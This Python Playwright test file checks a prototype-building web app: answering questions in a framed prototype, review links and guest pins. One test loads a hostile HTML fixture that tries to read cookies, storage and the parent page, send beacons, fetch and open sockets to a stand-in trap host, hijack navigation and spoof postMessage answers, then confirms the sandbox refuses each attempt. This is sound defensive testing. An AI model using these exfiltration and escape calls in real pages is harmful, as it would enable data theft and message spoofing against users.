"""A prototype in a browser: made, answered, pinned by somebody outside, and a hostile one that reaches nothing."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, expect

from tests.browser.conftest import Server, Watch
from tests.browser.test_every_page import name_faults

IDEA = (
    "Guests book a table and see their bookings. Hosts confirm or decline a booking and export the evening as a list."
)
FIRST = 40_000
"""How long the first one may take: it reads the packages, which is slow where every core is taken."""
ANSWER = "A sentence says that nothing is booked yet, with a button to book."


def make_of_idea(page: Page, server: Server, title: str) -> str:
    page.goto(server.base + "/prototypes/new")
    page.get_by_label("The idea").fill(IDEA)
    page.locator("#idea-name").fill(title)
    page.get_by_role("button", name="Make it").first.click(timeout=FIRST)
    expect(page.locator("#frame")).to_be_visible()
    return page.url.partition("?")[0]


def framed(page: Page) -> FrameLocator:
    return page.frame_locator("#frame")


def look(page: Page) -> None:
    """No fault around the frame in either look, and nothing scrolls sideways on a phone."""
    assert name_faults(page, within="main > *") == []
    page.emulate_media(color_scheme="dark")
    assert name_faults(page, within="main > *", only="color-contrast") == []
    page.emulate_media(color_scheme="light")
    page.set_viewport_size({"width": 320, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
    page.set_viewport_size({"width": 1440, "height": 900})


def test_a_person_answers_in_the_prototype_itself_and_it_shows_at_once(open_page, server: Server):
    page = open_page(reduced_motion="reduce", color_scheme="light")
    make_of_idea(page, server, "Tables")
    asked = page.locator(".open-asked > li", has_text="no bookings yet").first
    asked.locator("button.leads").click()
    expect(page.locator("[data-at]")).to_contain_text("empty")
    expect(asked).to_have_class(re.compile(r"\bhere\b"))
    question = framed(page).locator("details.ask", has_text="no bookings yet")
    question.locator("textarea").fill(ANSWER)
    question.get_by_role("button", name="Answer").click()
    expect(page.locator(".said-here")).to_contain_text("nothing is booked yet")
    expect(page.locator(".open-asked > li", has_text="no bookings yet")).to_have_count(0)
    expect(page.locator("[data-at]")).to_contain_text("empty")
    expect(page.locator(".said-here")).to_contain_text("waits for the PRD")
    look(page)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".open-asked > li", has_text="no bookings yet").first).to_be_visible()


def test_the_matrix_leads_and_the_prototype_can_be_shown_alone(open_page, server: Server):
    page = open_page(reduced_motion="reduce", color_scheme="light")
    make_of_idea(page, server, "Tables to lead")
    page.locator(".matrix .dot.open").last.click()
    expect(page.locator("[data-at]")).not_to_contain_text("ideal")
    page.get_by_role("button", name="Show it alone").click()
    expect(page.locator(".viewing.alone")).to_be_visible()
    expect(page.locator("#around")).to_be_hidden()
    page.keyboard.press("Escape")
    expect(page.locator("#around")).to_be_visible()


def test_somebody_without_an_account_pins_by_a_review_link_until_it_is_taken_back(
    open_page, server: Server, chromium: Browser, watch: Watch
):
    page = open_page(reduced_motion="reduce", color_scheme="light")
    here = make_of_idea(page, server, "Tables for review")
    page.get_by_label("For whom").fill("The pilots")
    page.get_by_role("button", name="Make a link").click()
    link = page.get_by_label("The review link").input_value()
    look(page)
    context = chromium.new_context(viewport={"width": 1440, "height": 900}, reduced_motion="reduce")
    guest = context.new_page()
    watch.over(guest)
    guest.goto(link)
    expect(guest.locator("[data-at]")).to_contain_text("ideal")
    guest.get_by_role("button", name="Pin a spot").click()
    guest.locator("[data-aim]").click(position={"x": 200, "y": 150})
    guest.get_by_label("Your name").fill("Bo")
    guest.get_by_label("What you want to say").fill("I would look for the week first.")
    guest.get_by_role("button", name="Pin it").click()
    expect(guest.get_by_text("Pinned. Thank you.")).to_be_visible()
    expect(guest.locator(".spots a")).to_have_text("1")
    look(guest)
    page.goto(here)
    expect(page.locator(".pins")).to_contain_text("outside, said to be Bo")
    expect(page.locator(".spots a")).to_have_text("1")
    page.get_by_role("button", name=re.compile("^Take back the link")).click()
    expect(page.locator(".reviews")).to_contain_text("taken back on")
    guest.goto(link)
    expect(guest.get_by_role("heading", name="Nothing opens here any more.")).to_be_visible()
    assert name_faults(guest) == []
    watch.expect("403")
    context.close()


class Trap(BaseHTTPRequestHandler):
    """A server elsewhere that writes down whoever asks."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).seen.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: object) -> None: ...


@pytest.fixture
def elsewhere() -> Iterator[str]:
    trap = ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    Trap.seen = []
    thread = threading.Thread(target=trap.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{trap.server_address[1]}"
    trap.shutdown()
    trap.server_close()
    thread.join()


HOSTILE = """<!doctype html><html><head><meta charset="utf-8"><title>x</title>
<link rel="stylesheet" href="TRAP/style"><link rel="prefetch" href="TRAP/prefetch"></head>
<body><img src="TRAP/img"><iframe src="TRAP/frame"></iframe><object data="TRAP/object"></object>
<form id="f" action="TRAP/form" method="post"><input name="a" value="b"></form><p id="log">nothing</p>
<script src="TRAP/script"></script>
<script>
const tried = {};
async function attempt(name, does) {
  try { tried[name] = `did: ${await does()}`; } catch (error) { tried[name] = "refused"; }
}
(async () => {
  await attempt("parent", () => window.parent.document.title);
  await attempt("top", () => { window.top.location = "TRAP/top"; return "went"; });
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("fetch", () => fetch("TRAP/fetch"));
  await attempt("own", async () => (await fetch("/prds/", { credentials: "include" })).status);
  const sent = (yes) => { if (!yes) throw new Error("no"); return "sent"; };
  const opens = (one) => new Promise((yes, no) => { one.onopen = yes; one.onerror = no; });
  await attempt("beacon", () => sent(navigator.sendBeacon("TRAP/beacon", "x")));
  await attempt("socket", () => opens(new WebSocket("WS/socket")));
  await attempt("events", () => opens(new EventSource("TRAP/events")));
  const thread = new Blob(["fetch('TRAP/worker')"]);
  await attempt("worker", () => new Promise((yes, no) => { new Worker(URL.createObjectURL(thread)).onerror = no; }));
  await attempt("window", () => sent(window.open("TRAP/window")));
  await attempt("alert", () => { new Image().src = "TRAP/image"; return "asked"; });
  try { document.getElementById("f").submit(); } catch (error) { tried.form = "refused"; }
  const me = { from: "throughline-prototype", text: "EVIL" };
  window.parent.postMessage({ ...me, kind: "answer", case: "ST-01", story: "s", screen: "x", state: "y" }, "*");
  window.parent.postMessage({ ...me, kind: "rename", key: "title" }, "*");
  document.getElementById("log").textContent = JSON.stringify(tried);
  setTimeout(() => { window.location = "TRAP/self"; }, 300);
})();
</script></body></html>"""


def test_a_hostile_file_reads_nothing_leads_nowhere_and_asks_nobody(open_page, server: Server, watch: Watch, elsewhere):
    page = open_page()
    page.goto(server.base + "/prototypes/new")
    hostile = HOSTILE.replace("TRAP", elsewhere).replace("WS/", elsewhere.replace("http", "ws") + "/")
    file = {"name": "hostile.html", "mimeType": "text/html", "buffer": hostile.encode()}
    page.locator("#proto-file").set_input_files(file)
    posts: list[str] = []
    page.on("request", lambda asked: posts.append(asked.url) if asked.method == "POST" else None)
    page.get_by_role("button", name="Bring it").click()
    here = page.url.partition("?")[0]
    log = framed(page).locator("#log")
    expect(log).to_contain_text("alert")
    tried = log.inner_text()
    for name in ("parent", "top", "cookie", "storage", "fetch", "own", "socket", "events", "window"):
        assert f'"{name}":"refused"' in tried, (name, tried)
    page.wait_for_function("document.getElementById('frame') && true")
    expect(page.frame_locator("#frame").locator("#log")).to_have_count(0)
    assert page.url.partition("?")[0] == here
    assert Trap.seen == []
    assert [url for url in posts if not url.endswith("/bring")] == []
    assert "EVIL" not in page.content()
    watch.faults[:] = [fault for fault in watch.faults if not _is_refusal(fault, elsewhere)]


def _is_refusal(fault: str, elsewhere: str) -> bool:
    """What the browser says when it refuses, and the requests that it did not let out."""
    words = r"Content Security Policy|sandbox|blocked|ERR_BLOCKED|Refused|insecure|violates|Unsafe attempt|Blocked"
    return (
        bool(re.search(words, fault))
        or fault.startswith(f"asked {elsewhere.replace('http', '')}")
        or elsewhere in fault
    )
